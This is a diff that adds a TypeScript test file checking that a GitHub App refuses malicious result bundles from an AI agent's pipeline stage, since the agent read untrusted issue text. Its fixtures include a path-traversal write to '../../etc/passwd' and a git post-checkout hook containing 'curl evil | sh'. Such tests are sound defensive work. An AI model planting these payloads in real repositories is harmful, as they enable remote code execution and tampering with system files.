@@ -1,0 +1,171 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { ChangedFile } from "../../src/contracts/changes.js";
+import { nockArtifact } from "../mocks/actions.js";
+import { buildBundle, textFile } from "../support/bundle.js";
+import { BASE, BRANCH, RUN, startRun } from "../support/flow.js";
+import { workflowRunPayload } from "../support/payloads.js";
+import { createTestApp, type TestApp } from "../support/test-app.js";
+import { openTestStore } from "../support/test-store.js";
+
+// A stage's agent read untrusted issue text, so its result bundle is
+// untrusted too: the App refuses one that would write outside the
+// repository, into .git, to a protected path, or too much — and commits
+// nothing (the strict HTTP mocks fail the test on any git call).
+describe("a malicious or broken result bundle", () => {
+  let test: Awaited<ReturnType<typeof openTestStore>>;
+  let app: TestApp;
+
+  beforeAll(async () => {
+    test = await openTestStore("pglite");
+  });
+  afterAll(async () => {
+    await test.close();
+  });
+  beforeEach(async () => {
+    await test.reset();
+    app = await createTestApp(test.store, {
+      runIds: [RUN],
+      tokens: ["abc123"],
+    });
+  });
+
+  const big = "x".repeat(10 * 1024 * 1024 + 1);
+
+  it.each<
+    [
+      string,
+      {
+        files?: ChangedFile[];
+        entries?: Record<string, string>;
+        baseSha?: string;
+      },
+      string,
+    ]
+  >([
+    [
+      "a path that climbs out of the repository",
+      { files: [textFile("../../etc/passwd", "root::0:0")] },
+      "changes.json: '../../etc/passwd': the path has a '..' segment",
+    ],
+    [
+      "a write into .git",
+      { files: [textFile(".git/hooks/post-checkout", "curl evil | sh")] },
+      "changes.json: '.git/hooks/post-checkout': the path is inside .git",
+    ],
+    [
+      "a change to a workflow file",
+      { files: [textFile(".github/workflows/ci.yml", "on: push")] },
+      "changes.json: '.github/workflows/ci.yml' is a protected path (protected_paths in .github/specwright.yml)",
+    ],
+    [
+      "an oversized file",
+      { files: [textFile("specs/001/spec.md", big)] },
+      `changes.json: 'specs/001/spec.md' is ${big.length} bytes, over 10485760`,
+    ],
+    [
+      "changes against another commit than the one dispatched",
+      {
+        baseSha: "b".repeat(40),
+        files: [textFile("specs/001/spec.md", "# Spec")],
+      },
+      `changes.json is against ${"b".repeat(40)}, not the dispatched branch head ${BASE}`,
+    ],
+    [
+      "a result.json that is not JSON",
+      { entries: { "result.json": "{not json" } },
+      "result.json is not valid JSON",
+    ],
+  ])(
+    "refuses %s, fails the stage and commits nothing",
+    async (_, bundle, problem) => {
+      const { checkUpdates } = await startRun(app);
+      nockArtifact(
+        101,
+        `specwright-${RUN}-specify-1`,
+        buildBundle({
+          runId: RUN,
+          stage: "specify",
+          baseSha: bundle.baseSha ?? BASE,
+          outputs: { spec: "specs/001/spec.md" },
+          ...bundle,
+        }),
+      );
+      await app.receive(
+        "workflow_run",
+        workflowRunPayload("completed", {
+          id: 101,
+          runId: RUN,
+          stage: "specify",
+          branch: BRANCH,
+        }),
+      );
+      const run = await test.store.loadRun(RUN);
+      const specify = run?.stages.find((s) => s.id === "specify");
+      expect(specify?.status).toBe("failed");
+      expect(specify?.reason).toContain("the result bundle was refused: ");
+      expect(specify?.reason).toContain(problem);
+      expect(specify?.attempts[0]?.commit_sha).toBeNull();
+      expect(run?.head_sha).toBe(BASE);
+      expect(run?.status).toBe("failed");
+      expect(checkUpdates.bodies.at(-1)?.body).toMatchObject({
+        conclusion: "failure",
+      });
+    },
+  );
+
+  it("allows a protected path the config no longer protects", async () => {
+    await startRun(app, { config: "protected_paths: []\n" });
+    nockArtifact(
+      101,
+      `specwright-${RUN}-specify-1`,
+      buildBundle({
+        runId: RUN,
+        stage: "specify",
+        baseSha: BASE,
+        outputs: { spec: "specs/001/spec.md" },
+        status: "failed",
+        error: "the agent gave up",
+        files: [textFile(".github/workflows/ci.yml", "on: push")],
+      }),
+    );
+    await app.receive(
+      "workflow_run",
+      workflowRunPayload("completed", {
+        id: 101,
+        runId: RUN,
+        stage: "specify",
+        branch: BRANCH,
+      }),
+    );
+    const specify = (await test.store.loadRun(RUN))?.stages.find(
+      (s) => s.id === "specify",
+    );
+    // Accepted as a bundle; the stage itself reported failure, so nothing is committed.
+    expect(specify?.reason).toBe("the agent gave up");
+  });
+
+  it("fails a stage that reports success without a required output", async () => {
+    await startRun(app);
+    nockArtifact(
+      101,
+      `specwright-${RUN}-specify-1`,
+      buildBundle({ runId: RUN, stage: "specify", baseSha: BASE, outputs: {} }),
+    );
+    await app.receive(
+      "workflow_run",
+      workflowRunPayload("completed", {
+        id: 101,
+        runId: RUN,
+        stage: "specify",
+        branch: BRANCH,
+      }),
+    );
+    const specify = (await test.store.loadRun(RUN))?.stages.find(
+      (s) => s.id === "specify",
+    );
+    expect(specify).toMatchObject({
+      status: "failed",
+      reason: "the stage reported success without its required output 'spec'",
+    });
+  });
+});
